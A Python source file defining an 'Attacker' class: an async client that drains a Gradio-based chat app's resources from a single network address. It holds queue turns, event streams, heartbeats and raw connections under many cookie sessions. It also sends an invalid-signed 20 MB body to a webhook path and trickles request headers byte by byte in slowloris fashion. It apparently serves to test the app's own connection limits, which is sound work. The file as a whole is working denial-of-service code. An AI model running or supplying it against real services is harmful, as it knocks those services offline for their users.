"""A client that takes as many resources as it can from one network address, with many cookies."""

import asyncio
import contextlib
import secrets
from collections import Counter
from collections.abc import Awaitable, Callable
from types import TracebackType
from typing import Any, Self
from urllib.parse import urlsplit

import aiohttp
import orjson

API = "/gradio_api"
SIGNED = "sha256=" + "0" * 64  # has the form of a signature, and is not valid
AT_ONCE = 16  # concurrent attempts
REFUSALS = 3  # rounds without a success, after which nothing more can be held
REFUSED_SECONDS = 0.5  # within which the app would have refused a connection
MAX_HELD = 5_000  # of one kind
JSON = "Content-Type: application/json\r\n"  # the app reads no body of another type
HEADERS = "GET / HTTP/1.1\r\n"
BODY = f"POST {API}/queue/join HTTP/1.1\r\n{JSON}Content-Length: 9000\r\n"
LARGE = (
    f"POST /whatsapp/incoming HTTP/1.1\r\n{JSON}"
    f"X-Hub-Signature-256: {SIGNED}\r\nContent-Length: 20000000\r\n"
)


class Attacker:
    """Holds resources of an app until each kind is refused; an async context manager.

    `held` counts the resources held and `refused` the refused attempts, by kind.

    Args:
        url: The app's URL.
        address: The local address that it connects from, such as 127.0.0.2.
    """

    def __init__(self, url: str, address: str) -> None:
        self.held: Counter[str] = Counter()
        self.refused: Counter[str] = Counter()
        self._url = url
        self._address = address
        self._connector = aiohttp.TCPConnector(limit=0, local_addr=(address, 0))
        self._answers: list[aiohttp.ClientResponse] = []
        self._browsers: list[aiohttp.ClientSession] = []
        self._writers: list[asyncio.StreamWriter] = []
        self._trickling: list[asyncio.Task[None]] = []
        self._send = 0

    async def __aenter__(self) -> Self:
        async with self._browser().get(f"{self._url}/config") as answer:
            config = orjson.loads(await answer.read())
        functions = {each["api_name"]: each["id"] for each in config["dependencies"]}
        self._send = functions["send"]
        return self

    async def __aexit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        for task in self._trickling:
            task.cancel()
        await asyncio.gather(*self._trickling, return_exceptions=True)
        for answer in self._answers:
            answer.close()
        for writer in self._writers:
            writer.transport.abort()
        for browser in self._browsers:
            await browser.close()
        await self._connector.close()

    async def hold_all(self, text: str, model: str | None = None) -> None:
        """Hold turns with the message `text` for `model`, and then resources of every other kind."""
        for kind, take in (
            ("turns", lambda: self._turn(text, model)),
            ("mailboxes", self._stream),
            ("heartbeats", self._heartbeat),
            ("large_bodies", lambda: self._raw(self._head(LARGE) + b"\r\n")),
            ("connections", lambda: self._raw(b"")),
        ):
            await self._all(kind, take)

    def trickle(self, seconds: float = 0.05) -> None:
        """Begin to send headers and bodies byte by byte, over and over, in the background."""
        for start in (
            self._head(HEADERS),
            self._head(BODY) + b"\r\n{",
            self._head(LARGE) + b"\r\n",
        ):
            task = asyncio.create_task(self._trickle(start, seconds), name="trickle")
            self._trickling.append(task)

    async def _all(self, kind: str, take: Callable[[], Awaitable[bool]]) -> None:
        refused = 0
        while refused < REFUSALS and self.held[kind] < MAX_HELD:
            results = await asyncio.gather(*(self._try(take) for _ in range(AT_ONCE)))
            self.held[kind] += sum(results)
            self.refused[kind] += results.count(False)
            refused = 0 if any(results) else refused + 1

    async def _try(self, take: Callable[[], Awaitable[bool]]) -> bool:
        try:
            return await take()
        except (aiohttp.ClientError, ConnectionError, asyncio.IncompleteReadError):
            return False

    def _browser(self) -> aiohttp.ClientSession:
        browser = aiohttp.ClientSession(
            connector=self._connector,
            connector_owner=False,
            cookie_jar=aiohttp.CookieJar(unsafe=True),
            timeout=aiohttp.ClientTimeout(total=None),
        )
        self._browsers.append(browser)
        return browser

    async def _visitor(self) -> aiohttp.ClientSession:
        browser = self._browser()
        async with browser.get(f"{self._url}/") as answer:
            await answer.read()
        return browser

    async def _turn(self, text: str, model: str | None) -> bool:
        browser, name = await self._visitor(), secrets.token_hex(6)
        body = {"data": [text, "", "", model], "fn_index": self._send, "session_hash": name}
        async with browser.post(f"{self._url}{API}/queue/join", json=body) as answer:
            await answer.read()
            if answer.status != 200:
                return False
        return await self._open(browser, f"{API}/queue/data?session_hash={name}")

    async def _stream(self) -> bool:
        path = f"{API}/queue/data?session_hash={secrets.token_hex(6)}"
        return await self._open(await self._visitor(), path)

    async def _heartbeat(self) -> bool:
        path = f"{API}/heartbeat/{secrets.token_hex(6)}"
        return await self._open(await self._visitor(), path)

    async def _open(self, browser: aiohttp.ClientSession, path: str) -> bool:
        answer = await browser.get(f"{self._url}{path}")
        if answer.status != 200:
            answer.close()
            return False
        self._answers.append(answer)
        return True

    def _head(self, lines: str) -> bytes:
        """Return the first lines of a request, with the app's Host header."""
        return f"{lines}Host: {urlsplit(self._url).netloc}\r\n".encode()

    async def _raw(self, data: bytes) -> bool:
        """Open a connection and keep it; return whether the app has neither closed it nor answered."""
        reader, writer = await self._connect()
        self._writers.append(writer)
        writer.write(data)
        await writer.drain()
        try:
            async with asyncio.timeout(REFUSED_SECONDS):
                await reader.read(1)
        except TimeoutError:
            return True
        return False

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        target: Any = urlsplit(self._url)
        return await asyncio.open_connection(
            target.hostname, target.port, local_addr=(self._address, 0)
        )

    async def _trickle(self, start: bytes, seconds: float) -> None:
        while True:
            with contextlib.suppress(ConnectionError):
                _, writer = await self._connect()
                try:
                    writer.write(start)
                    while not writer.is_closing():
                        writer.write(b"x")
                        await writer.drain()
                        await asyncio.sleep(seconds)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(seconds)
